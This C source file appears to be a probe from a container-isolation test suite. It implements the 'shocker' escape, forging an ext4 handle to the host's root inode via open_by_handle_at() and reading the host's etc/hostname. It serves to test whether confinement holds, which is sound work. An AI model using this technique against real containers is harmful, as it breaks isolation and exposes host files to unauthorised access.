/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Row A12, the "shocker" escape: with CAP_DAC_READ_SEARCH, open_by_handle_at() opens any inode of a
 * file system the caller has some file of (the mount fd), also outside its root. Given a file that the
 * host bound into the container (argv[1], on the host's ext4 root file system), the probe builds the
 * handle of that file system's root directory (inode 2, generation 0) and tries to open it and read
 * etc/hostname there. Prints one line per step: "name_to_handle_at OK type=T", "open_by_handle_at
 * ERRNO-NAME" or "open_by_handle_at OK", and "hostname CONTENT" when the host's file was read. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
        struct { struct file_handle h; unsigned char bytes[MAX_HANDLE_SZ]; } fh = { .h.handle_bytes = MAX_HANDLE_SZ };
        int mount_id, mfd, fd, hfd;
        char buf[256] = "";
        ssize_t n;

        if (argc != 2)
                return 2;
        mfd = open(argv[1], O_RDONLY | O_CLOEXEC);
        if (mfd < 0) {
                printf("open %s\n", strerrorname_np(errno));
                return 1;
        }
        if (name_to_handle_at(mfd, "", &fh.h, &mount_id, AT_EMPTY_PATH) < 0)
                printf("name_to_handle_at %s\n", strerrorname_np(errno));
        else
                printf("name_to_handle_at OK type=%d\n", fh.h.handle_type);

        /* ext4's handles are FILEID_INO32_GEN (1): a 32-bit inode number and its generation. */
        fh.h.handle_type = 1;
        fh.h.handle_bytes = 8;
        memset(fh.h.f_handle, 0, 8);
        fh.h.f_handle[0] = 2;
        fd = open_by_handle_at(mfd, &fh.h, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (fd < 0) {
                printf("open_by_handle_at %s\n", strerrorname_np(errno));
                return 0;
        }
        printf("open_by_handle_at OK\n");
        hfd = openat(fd, "etc/hostname", O_RDONLY | O_CLOEXEC);
        if (hfd >= 0 && (n = read(hfd, buf, sizeof(buf) - 1)) > 0) {
                buf[strcspn(buf, "\n")] = 0;
                printf("hostname %s\n", buf);
        }
        return 0;
}
